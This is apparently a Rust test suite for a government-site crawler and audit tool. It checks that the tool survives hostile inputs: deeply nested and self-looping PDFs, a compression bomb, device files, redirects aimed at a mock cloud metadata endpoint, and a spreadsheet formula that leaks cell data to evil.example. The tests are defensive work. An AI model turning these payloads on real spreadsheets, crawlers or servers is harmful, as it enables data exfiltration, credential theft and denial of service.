//! Hostile input (issue 14): pages, PDFs, files and servers built to break an audit or to steer
//! the crawler into the network it runs in. Each is served on loopback (or written as a file)
//! and the audit must finish, record the bad input with why, and lose nothing else.

use std::process::Command;

use crate::util::{column, crawl_ok, govaudit, govaudit_ok, open, script, Env, Reply};

const HOME: &str =
    "<!doctype html><html lang=\"en\"><head><title>Agency home</title></head><body><main>\
    <h1>Agency home</h1><p>Call 1-800-555-0100 for help with your benefits today.</p>\
    <p><a href=\"/deep/\">Deep page</a> <a href=\"/fees/\">Fees</a></p></main></body></html>";

fn deep_page(levels: usize) -> String {
    format!(
        "<!doctype html><html lang=\"en\"><head><title>Deep</title></head><body><main><h1>Deep</h1>{}<p>The fee is $35 for an application.</p></main></body></html>",
        "<div>".repeat(levels)
    )
}

fn fees_page(rows: usize) -> String {
    let mut s = String::from("<!doctype html><html lang=\"en\"><head><title>Fees</title></head><body><main><h1>Fees</h1><p>Fees:");
    for i in 0..rows {
        s.push_str(&format!(" ${} call 1-800-555-{:04}", i + 1, i % 10_000));
    }
    s.push_str("</p></main></body></html>");
    s
}

/// A PDF from its objects, with a correct cross-reference table.
fn pdf(objects: &[Vec<u8>]) -> Vec<u8> {
    let mut out = b"%PDF-1.4\n".to_vec();
    let mut offsets = Vec::new();
    for (i, o) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n", i + 1).as_bytes());
        out.extend_from_slice(o);
        out.extend_from_slice(b"\nendobj\n");
    }
    let xref = out.len();
    out.extend_from_slice(
        format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes(),
    );
    for o in offsets {
        out.extend_from_slice(format!("{o:010} 00000 n \n").as_bytes());
    }
    out.extend_from_slice(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
            objects.len() + 1
        )
        .as_bytes(),
    );
    out
}

fn catalog() -> Vec<Vec<u8>> {
    vec![
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
    ]
}

/// A page nested 60,000 elements deep, a page of 5,000 figures, PDFs that abort or loop their
/// reader, and publications that are devices or pipes: the crawl and the audit finish, the bad
/// files are recorded with why, and the good answers are still compared.
#[test]
fn hostile_pages_pdfs_and_files_never_stop_the_audit() {
    let env = Env::new();
    let site = env.serve_script(script(vec![
        ("/", Reply::Html(HOME.into())),
        ("/deep/", Reply::Html(deep_page(60_000))),
        ("/fees/", Reply::Html(fees_page(5_000))),
    ]));
    // 10,000 nested arrays overflow the PDF parser's stack (an abort, not a panic).
    let mut nested = catalog();
    nested.push(
        format!(
            "<< /Type /Page /Parent 2 0 R /X {}{} >>",
            "[".repeat(10_000),
            "]".repeat(10_000)
        )
        .into_bytes(),
    );
    env.write("pubs/nested.pdf", pdf(&nested));
    // A page whose parent is itself: the parser loops forever.
    let mut looped = catalog();
    looped.push(b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 612 792] >>".to_vec());
    env.write("pubs/loop.pdf", pdf(&looped));
    // A compression bomb: 1 MB of deflated zeros that inflate to 1 GB.
    let mut bomb = catalog();
    bomb.push(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>".to_vec());
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    let zeros = vec![b'0'; 1 << 20];
    for _ in 0..1024 {
        std::io::Write::write_all(&mut z, &zeros).expect("deflate");
    }
    let data = z.finish().expect("deflate");
    let mut stream = format!(
        "<< /Length {} /Filter /FlateDecode >>\nstream\n",
        data.len()
    )
    .into_bytes();
    stream.extend_from_slice(&data);
    stream.extend_from_slice(b"\nendstream");
    bomb.push(stream);
    env.write("pubs/bomb.pdf", pdf(&bomb));
    env.write(
        "pubs/good.md",
        "# Benefits\n\nCall 1-800-555-0199 for help with your benefits.\n",
    );
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink("/dev/zero", env.path("pubs/zero.md")).expect("symlink");
        let fifo = env.path("pubs/pipe.md");
        let made = Command::new("mkfifo").arg(&fifo).status();
        assert!(made.is_ok_and(|s| s.success()), "mkfifo");
    }
    let inv = env.write(
        "agency.csv",
        "url,name,agency,channel,path\n\
         https://www.agency.gov/,Agency,Agency,web,\n\
         ,Nested,Agency,publication,pubs/nested.pdf\n\
         ,Loop,Agency,publication,pubs/loop.pdf\n\
         ,Bomb,Agency,publication,pubs/bomb.pdf\n\
         ,Zero,Agency,publication,pubs/zero.md\n\
         ,Pipe,Agency,publication,pubs/pipe.md\n\
         ,Good,Agency,publication,pubs/good.md\n",
    );
    let db = env.db();
    let map = format!("https://www.agency.gov={}", site.origin());
    let out = Command::new(env!("CARGO_BIN_EXE_govaudit"))
        .args([
            "crawl",
            inv.to_str().expect("utf8"),
            "--db",
            db.to_str().expect("utf8"),
        ])
        .args(["--offline", "--delay-ms", "0", "--map", &map])
        .env("GOVAUDIT_PDF_SECONDS", "3")
        .env("GOVAUDIT_PDF_MIB", "64")
        .env("GOVAUDIT_LOG", "govaudit=warn")
        .output()
        .expect("run");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    let store = open(&db);
    let errors = column(
        &store,
        "SELECT path || ': ' || COALESCE(error, 'read') FROM channel_docs ORDER BY path",
    );
    let of = |p: &str| {
        errors
            .iter()
            .find(|e| e.starts_with(p))
            .cloned()
            .unwrap_or_default()
    };
    assert!(of("pubs/nested.pdf").contains("crashed"), "{errors:?}");
    // Endless in an optimised build, a stack overflow in a debug one: skipped either way.
    assert!(
        of("pubs/bomb.pdf").contains("more than 64 MiB"),
        "{errors:?}"
    );
    let looped = of("pubs/loop.pdf");
    assert!(
        looped.contains("more than 3 s") || looped.contains("crashed"),
        "{errors:?}"
    );
    assert!(
        of("pubs/zero.md").contains("not a regular file"),
        "{errors:?}"
    );
    assert!(
        of("pubs/pipe.md").contains("not a regular file"),
        "{errors:?}"
    );
    assert_eq!(of("pubs/good.md"), "pubs/good.md: read", "{errors:?}");
    let pages = column(&store, "SELECT u.url FROM pages p JOIN urls u ON u.id = p.url_id WHERE p.status = 200 ORDER BY u.url");
    assert_eq!(pages.len(), 3, "{pages:?}");

    let db = db.display().to_string();
    let audit = govaudit(&["audit", "--db", &db]);
    assert!(
        audit.status.success(),
        "{}",
        String::from_utf8_lossy(&audit.stderr)
    );
    assert!(
        String::from_utf8_lossy(&audit.stderr).contains("nested deeper than"),
        "{}",
        String::from_utf8_lossy(&audit.stderr)
    );
    // The deep page's text is still read: its fee is a claim like any other.
    let text = govaudit_ok(&["pages", "--db", &db, "--format", "json"]);
    assert!(String::from_utf8_lossy(&text.stdout).contains("/deep/"));
    // The good publication's line disagrees with the site's: the comparison ran.
    let found = govaudit_ok(&[
        "findings",
        "--db",
        &db,
        "--format",
        "json",
        "--kind",
        "inconsistent_answer",
    ]);
    assert!(
        String::from_utf8_lossy(&found.stdout).contains("555-0199"),
        "{}",
        String::from_utf8_lossy(&found.stdout)
    );

    // lint: a draft nested 60,000 deep, and a "draft" that is a device.
    let deep = env.write("deep.html", deep_page(60_000));
    let lint = govaudit(&["lint", deep.to_str().expect("utf8")]);
    assert!(
        lint.status.success(),
        "{}",
        String::from_utf8_lossy(&lint.stderr)
    );
    #[cfg(unix)]
    {
        let zero = env.path("zero.html");
        std::os::unix::fs::symlink("/dev/zero", &zero).expect("symlink");
        let lint = govaudit(&["lint", zero.to_str().expect("utf8")]);
        assert_eq!(
            lint.status.code(),
            Some(2),
            "{}",
            String::from_utf8_lossy(&lint.stderr)
        );
        assert!(String::from_utf8_lossy(&lint.stderr).contains("not a regular file"));
    }
}

/// The crawler never reaches inside the network it runs in: under `--offline` only the `--map`
/// targets are requested, however a page, a redirect or robots.txt points elsewhere; robots.txt
/// and sitemap redirects stay on the site.
#[test]
fn the_crawl_stays_out_of_the_network_it_runs_in() {
    let env = Env::new();
    // Another service on this machine, which must never be asked anything.
    let inside = env.serve_script(script(vec![
        (
            "/latest/meta-data/",
            Reply::Html("{\"AccessKeyId\": \"secret\"}".into()),
        ),
        (
            "/sitemap.xml",
            Reply::Bytes(
                "application/xml",
                b"<urlset><url><loc>http://x/</loc></url></urlset>".to_vec(),
            ),
        ),
        ("*", Reply::Generated(|_| "inside".into())),
    ]));
    let inside_origin = inside.origin();
    let home = format!(
        "<!doctype html><html lang=\"en\"><head><title>Home</title><base href=\"{inside_origin}/\"></head><body><main><h1>Home</h1>\
         <p><a href=\"{inside_origin}/admin/\">Admin</a> <a href=\"http://localhost:{}/x\">Local</a>\
         <a href=\"https://www.agency.gov/go\">Go</a></p></main></body></html>",
        inside.addr.port()
    );
    let site = env.serve_script(script(vec![
        (
            "/robots.txt",
            Reply::Redirect(302, format!("{inside_origin}/latest/meta-data/")),
        ),
        (
            "/sitemap.xml",
            Reply::Redirect(302, format!("{inside_origin}/sitemap.xml")),
        ),
        ("/", Reply::Html(home)),
        (
            "/go",
            Reply::Redirect(302, format!("{inside_origin}/latest/meta-data/")),
        ),
    ]));
    let inv = env.write("agency.csv", "url,name\nhttps://www.agency.gov/,Agency\n");
    let db = env.db();
    let map = format!("https://www.agency.gov={}", site.origin());
    govaudit_ok(&[
        "crawl",
        inv.to_str().expect("utf8"),
        "--db",
        db.to_str().expect("utf8"),
        "--offline",
        "--delay-ms",
        "0",
        "--map",
        &map,
    ]);
    assert!(
        inside.requests().is_empty(),
        "requested inside: {:?}",
        inside.paths()
    );
    let store = open(&db);
    let robots = column(&store, "SELECT COALESCE(robots_txt, '') FROM sites");
    assert!(
        !robots.iter().any(|r| r.contains("AccessKeyId")),
        "{robots:?}"
    );
    // The refusals are stored with why.
    let refused = column(&store, "SELECT kind || ' ' || message FROM fetch_errors");
    assert!(
        refused
            .iter()
            .any(|r| r.starts_with("offline") && r.contains("neither a --map target")),
        "{refused:?}"
    );

    // Without --offline the check is on the resolved address: `localhost` is a name, and it
    // resolves inside. (Every address here is loopback: nothing leaves the machine.)
    inside.clear();
    let online = env.path("online.db").display().to_string();
    let links = format!(
        "<!doctype html><html lang=\"en\"><head><title>Home</title></head><body><main><h1>Home</h1>\
         <p><a href=\"http://localhost:{}/by-name/\">By name</a> <a href=\"{inside_origin}/by-address/\">By address</a></p></main></body></html>",
        inside.addr.port()
    );
    let site2 = env.serve_script(script(vec![("/", Reply::Html(links))]));
    let map2 = format!("https://www.agency.gov={}", site2.origin());
    govaudit_ok(&[
        "crawl",
        inv.to_str().expect("utf8"),
        "--db",
        &online,
        "--delay-ms",
        "0",
        "--map",
        &map2,
    ]);
    assert!(
        inside.requests().is_empty(),
        "requested inside: {:?}",
        inside.paths()
    );
    let refused = column(
        &open(std::path::Path::new(&online)),
        "SELECT kind FROM fetch_errors",
    );
    assert!(
        refused.iter().filter(|k| *k == "scope").count() >= 2,
        "{refused:?}"
    );

    // Bad flags are refused up front.
    for (flag, value) in [
        (
            "--map",
            "https://www.agency.gov=http://user:pw@127.0.0.1:1/",
        ),
        ("--map", "https://www.agency.gov=http://127.0.0.1:1/path"),
        ("--allow-net", "10.0.0.0/40"),
        ("--delay-ms", "18446744073709551615"),
    ] {
        let out = govaudit(&[
            "crawl",
            inv.to_str().expect("utf8"),
            "--db",
            db.to_str().expect("utf8"),
            "--offline",
            flag,
            value,
        ]);
        assert_eq!(
            out.status.code(),
            Some(2),
            "{flag} {value}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
}

/// What a crawled page or an inventory cell says never runs in a spreadsheet or a terminal,
/// and credentials in an inventory address are refused, never sent or printed.
#[test]
fn crawled_text_is_inert_in_csv_and_terminals_and_credentials_are_refused() {
    let env = Env::new();
    let title = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")\u{1b}]0;pwned\u{7}";
    let page = format!(
        "<!doctype html><html lang=\"en\"><head><title>{title}</title></head><body><main><h1>Home</h1>\
         <p>Call 1-800-555-0100 for help with your benefits today.</p></main></body></html>"
    );
    let site = env.serve_script(script(vec![("/", Reply::Html(page))]));
    let inv = env.write(
        "agency.csv",
        "url,name,agency\nhttps://www.agency.gov/,@SUM(1+1),+cmd|' /C calc'!A0\n",
    );
    let db = env.db();
    let db_arg = db.display().to_string();
    let map = format!("https://www.agency.gov={}", site.origin());
    crawl_ok(&inv, std::path::Path::new(&db_arg), &[&map], &[]);
    govaudit_ok(&["audit", "--db", &db_arg]);
    let out = env.path("report");
    let out_arg = out.display().to_string();
    govaudit_ok(&[
        "report", "--db", &db_arg, "--out", &out_arg, "--format", "csv",
    ]);
    for file in ["pages.csv", "sites.csv", "survey.csv", "findings.csv"] {
        let text = std::fs::read_to_string(out.join(file)).expect(file);
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_bytes());
        for record in reader.records() {
            for cell in record.expect("csv").iter() {
                assert!(
                    !(cell.starts_with(['=', '+', '@'])
                        || (cell.starts_with('-') && cell.parse::<f64>().is_err())),
                    "{file}: a formula cell {cell:?}"
                );
            }
        }
    }
    let pages_csv = std::fs::read_to_string(out.join("pages.csv")).expect("pages.csv");
    assert!(pages_csv.contains("'=HYPERLINK"), "{pages_csv}");
    let table = govaudit_ok(&["pages", "--db", &db_arg, "--format", "table"]);
    assert!(
        !table.stdout.contains(&0x1b),
        "an escape reached the terminal"
    );

    // Credentials: the row is skipped with a warning that does not repeat them, and nothing is
    // requested with them.
    let creds = env.write(
        "creds.csv",
        "url,name\nhttps://user:s3cret@www.agency.gov/,Agency\nhttps://www.other.gov/,Other\n",
    );
    let other = env.serve_script(script(vec![("/", Reply::Html(HOME.into()))]));
    let before = site.requests().len();
    let other_map = format!("https://www.other.gov={}", other.origin());
    let cdb = env.path("c.db").display().to_string();
    let out = govaudit(&[
        "crawl",
        creds.to_str().expect("utf8"),
        "--db",
        &cdb,
        "--offline",
        "--delay-ms",
        "0",
        "--map",
        &other_map,
        "--map",
        &map,
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let said = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(said.contains("user name or password"), "{said}");
    assert_eq!(
        site.requests().len(),
        before,
        "the row with credentials was requested"
    );
    let sites = govaudit_ok(&["sites", "--db", &cdb, "--format", "json"]);
    let listed = String::from_utf8_lossy(&sites.stdout).to_string();
    assert!(
        !listed.contains("s3cret") && !listed.contains("www.agency.gov"),
        "{listed}"
    );
    assert!(!said.contains("s3cret"), "{said}");
}

/// Databases: listing commands only read (another program's file is refused and left as it
/// was; a damaged one is called damaged), and two writers never share one database.
#[test]
fn databases_are_read_only_for_listings_refused_when_foreign_and_locked_for_writers() {
    let env = Env::new();
    let foreign = env.path("other-app.sqlite");
    {
        let conn = rusqlite::Connection::open(&foreign).expect("open");
        conn.execute_batch("CREATE TABLE notes (id INTEGER PRIMARY KEY, body TEXT); INSERT INTO notes (body) VALUES ('x');")
            .expect("create");
    }
    // Another program's file that sets a schema version of its own is not ours either.
    let versioned = env.path("versioned.sqlite");
    {
        let conn = rusqlite::Connection::open(&versioned).expect("open");
        conn.execute_batch("CREATE TABLE notes (id INTEGER PRIMARY KEY); PRAGMA user_version = 3;")
            .expect("create");
    }
    let versioned_before = std::fs::read(&versioned).expect("read");
    let out = govaudit(&["audit", "--db", versioned.to_str().expect("utf8")]);
    assert_eq!(
        out.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        std::fs::read(&versioned).expect("read") == versioned_before,
        "changed"
    );
    let before = std::fs::read(&foreign).expect("read");
    for cmd in ["findings", "pages", "sites", "audit"] {
        let out = govaudit(&[cmd, "--db", foreign.to_str().expect("utf8")]);
        assert_eq!(
            out.status.code(),
            Some(2),
            "{cmd}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(String::from_utf8_lossy(&out.stderr).contains("not a govaudit database"));
    }
    assert!(
        std::fs::read(&foreign).expect("read") == before,
        "the other program's file was changed"
    );
    assert!(!env.path("other-app.sqlite-wal").exists());

    let damaged = env.write("damaged.db", vec![0x42u8; 8192]);
    let out = govaudit(&["pages", "--db", damaged.to_str().expect("utf8")]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("damaged"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    // A real database, crawled; then a second writer while the first holds it.
    let site = env.serve_script(script(vec![("/", Reply::Html(HOME.into()))]));
    let inv = env.write("agency.csv", "url,name\nhttps://www.agency.gov/,Agency\n");
    let db = env.db();
    let db_arg = db.display().to_string();
    let map = format!("https://www.agency.gov={}", site.origin());
    crawl_ok(&inv, std::path::Path::new(&db_arg), &[&map], &[]);
    let lock = std::fs::OpenOptions::new()
        .create(true)
        .truncate(false)
        .write(true)
        .open(format!("{db_arg}.lock"))
        .expect("lock file");
    lock.lock().expect("lock");
    for args in [
        vec!["audit", "--db", &db_arg],
        vec![
            "crawl",
            inv.to_str().expect("utf8"),
            "--db",
            &db_arg,
            "--offline",
            "--map",
            &map,
        ],
    ] {
        let out = govaudit(&args);
        assert!(!out.status.success());
        assert!(
            String::from_utf8_lossy(&out.stderr).contains("another govaudit"),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    // Listing needs no lock.
    govaudit_ok(&["pages", "--db", &db_arg]);
    lock.unlock().expect("unlock");
    govaudit_ok(&["audit", "--db", &db_arg]);
}

/// A site that answers every page "503, try later" is not waited for without end: after ten
/// such answers in a row its remaining pages are asked once each, and the crawl finishes.
#[test]
fn a_site_that_always_says_try_later_is_given_up_on() {
    let env = Env::new();
    let links: String = (0..30)
        .map(|i| format!("<a href=\"/p{i}\">Page {i}</a> "))
        .collect();
    let home = format!(
        "<!doctype html><html lang=\"en\"><head><title>Home</title></head><body><main><h1>Home</h1><p>{links}</p></main></body></html>"
    );
    let mut pairs = vec![("/", Reply::Html(home))];
    let paths: Vec<String> = (0..30).map(|i| format!("/p{i}")).collect();
    for p in &paths {
        pairs.push((p.as_str(), Reply::Status(503)));
    }
    let site = env.serve_script(script(pairs));
    let inv = env.write("agency.csv", "url,name\nhttps://www.agency.gov/,Agency\n");
    let db = env.db().display().to_string();
    let map = format!("https://www.agency.gov={}", site.origin());
    crawl_ok(
        &inv,
        std::path::Path::new(&db),
        &[&map],
        &["--per-host", "1"],
    );
    let asked = site.paths().iter().filter(|p| p.starts_with("/p")).count();
    // Without giving up: 30 pages x 3 attempts = 90 requests, each after a pause.
    assert!(asked <= 30 + 10 + 2, "{asked} requests for 30 pages");
    assert!(asked >= 30, "{asked}");
    let store = open(&env.db());
    let statuses = column(&store, "SELECT COUNT(*) FROM pages WHERE status = 503");
    assert_eq!(statuses, ["30"]);
}
